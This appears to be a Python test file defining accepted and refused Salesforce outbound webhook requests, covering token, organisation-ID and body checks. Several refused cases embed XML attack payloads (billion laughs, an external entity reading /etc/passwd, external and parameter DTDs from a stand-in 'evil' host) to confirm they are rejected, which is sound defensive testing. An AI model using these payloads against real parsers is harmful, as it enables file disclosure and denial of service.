"""Salesforce's outbound messages, good and bad: the token in the address and the organisation in the body decide."""

from datetime import datetime
from urllib.parse import urlsplit

from tests.support.vendors.cases import LARGE, Case, Table, accepted, refused
from tests.support.vendors.salesforce import SalesforceSimulator

_DTD = b'<!DOCTYPE soapenv:Envelope [<!ENTITY a "00D58000000LTzDEAW">%s]>'
_LAUGHS = b"".join(b'<!ENTITY %c "%s">' % (b"bcdefghij"[n], b"&%c;" % b"abcdefghi"[n] * 10) for n in range(9))
_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'


def cases(secret: str, now: datetime, url: str, _other: str) -> list[Case]:
    """Return the rows; a token that is changed is nobody's."""
    vendor = SalesforceSimulator()
    numbers = [vendor.open_case(number, "The zip is broken & more", "It came like that.") for number in range(1, 4)]
    body = vendor.outbound(numbers[0], notification="04lone")
    several = vendor.outbound(*numbers, session="00Dsession!secret", notification="04lmany")
    good = [*vendor.sign(body, secret, now, url).items()]
    path = urlsplit(url).path
    start = path.removesuffix(secret)
    org = vendor.org_id.encode()

    def with_dtd(entities: bytes, text: bytes) -> bytes:
        return body.replace(_HEAD, _HEAD + _DTD % entities).replace(org, text)

    return [
        accepted("one notification", good, body),
        accepted("several notifications", good, several, deliveries=3),
        accepted("organisation in its short form", good, body.replace(org, org[:15]).replace(b"04lone", b"04lshort")),
        accepted("no content type", [], body.replace(b"04lone", b"04lbare")),
        refused("token too short", good, body, path_query=path[:-1]),
        refused("token too long", good, body, path_query=f"{path}A"),
        refused("token in another case", good, body, path_query=start + secret.swapcase()),
        refused("last character of the token changed", good, body, path_query=path[:-1] + _another(path[-1])),
        refused("token in the query", good, body, path_query=f"{start}token?token={secret}"),
        refused("token in a header", [*good, ("x-webhook-token", secret)], body, path_query=f"{start}token"),
        refused("invented signature", [("x-salesforce-signature", secret)], body, path_query=f"{start}token"),
        refused("another organisation", good, body.replace(org, b"00D58000000OTHEEAW")),
        refused("organisation in another case", good, body.replace(org, org.swapcase())),
        refused("no organisation", good, body.replace(org, b"")),
        refused("organisation's prefix cut", good, body.replace(org, org[:14])),
        refused("entity for the organisation", good, with_dtd(b"", b"&a;")),
        refused("billion laughs", good, with_dtd(_LAUGHS, b"&j;")),
        refused("external entity", good, with_dtd(b'<!ENTITY x SYSTEM "file:///etc/passwd">', b"&x;")),
        refused(
            "external document type", good, body.replace(_HEAD, _HEAD + b'<!DOCTYPE a SYSTEM "http://evil/a.dtd">')
        ),
        refused("parameter entity", good, with_dtd(b'<!ENTITY % p SYSTEM "http://evil/p.dtd">%p;', org)),
        refused("bottomless nesting", good, b"<a>" * 100_000 + b"</a>" * 100_000),
        refused("body emptied", good, b""),
        refused("JSON", good, b'{"OrganizationId":"00D58000000LTzDEAW"}'),
        refused("body truncated", good, body[:-1]),
        refused("not UTF-8", good, body.replace(b"zip", b"\xff\xfe")),
        refused("other namespace", good, body.replace(b"2005/09/outbound", b"2005/09/inbound")),
        refused("too many notifications", good, vendor.outbound(*numbers * 34)),
        refused("too large", good, b"x" * LARGE, status=413),
    ]


def _another(character: str) -> str:
    return "A" if character != "A" else "B"


TABLE = Table(provider="salesforce", config={"org_id": "00D58000000LTzD"}, secret=lambda: "", cases=cases, distinct=6)
